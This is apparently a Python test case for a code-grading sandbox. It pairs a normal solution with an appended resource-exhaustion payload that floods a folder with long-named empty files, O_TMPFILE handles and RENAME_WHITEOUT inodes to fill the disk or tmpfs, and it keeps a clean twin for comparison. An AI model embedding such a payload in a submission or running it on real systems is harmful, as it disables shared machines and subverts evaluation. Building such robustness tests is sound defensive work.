from ._snippets import FOOTPRINT, SHA, solution_text

ASSIGNMENT = SHA
TAG = "empty"
ATTACK = ("fills the disk (or tmpfs memory) with empty files: as many as it can make in one folder, each with a "
          "250-byte name (the folder grows by a block every 15 names; an inode each), unnamed O_TMPFILE files, "
          "then whiteouts: a file renamed again and again with RENAME_WHITEOUT leaves a new inode at each old name")
CODE = solution_text(ASSIGNMENT) + FOOTPRINT + '''
_made, _why = _flood(lambda i: _fp_os.close(_fp_os.open(f"__MARK__-{i:0>235}",
                                                         _fp_os.O_CREAT | _fp_os.O_EXCL | _fp_os.O_WRONLY, 0o600)))
_unnamed = []
try:
    for _ in range(40):
        _unnamed.append(_fp_os.open(".", _fp_os.O_TMPFILE | _fp_os.O_RDWR, 0o600))
except OSError as _exc:
    _why += f"; O_TMPFILE stopped at {len(_unnamed)} ({type(_exc).__name__})"
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_whiteouts = 0
_current = f"__MARK__-{1:0>235}".encode()
if not _fp_os.path.exists(_current):
    try:
        _fp_os.close(_fp_os.open(_current, _fp_os.O_CREAT | _fp_os.O_WRONLY, 0o600))
    except OSError:
        pass
for _index in range(5000):
    _next = f"__MARK__-w{_index:0>234}".encode()
    if _libc.renameat2(-100, _current, -100, _next, 4) != 0:  # AT_FDCWD, RENAME_WHITEOUT
        _why += f"; whiteouts stopped at {_whiteouts} (errno {_ctypes.get_errno()})"
        break
    _current, _whiteouts = _next, _whiteouts + 1
_report("empty files and whiteouts", _made + len(_unnamed) + _whiteouts, _why)
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "footprint:"
SAME_SCORE = True
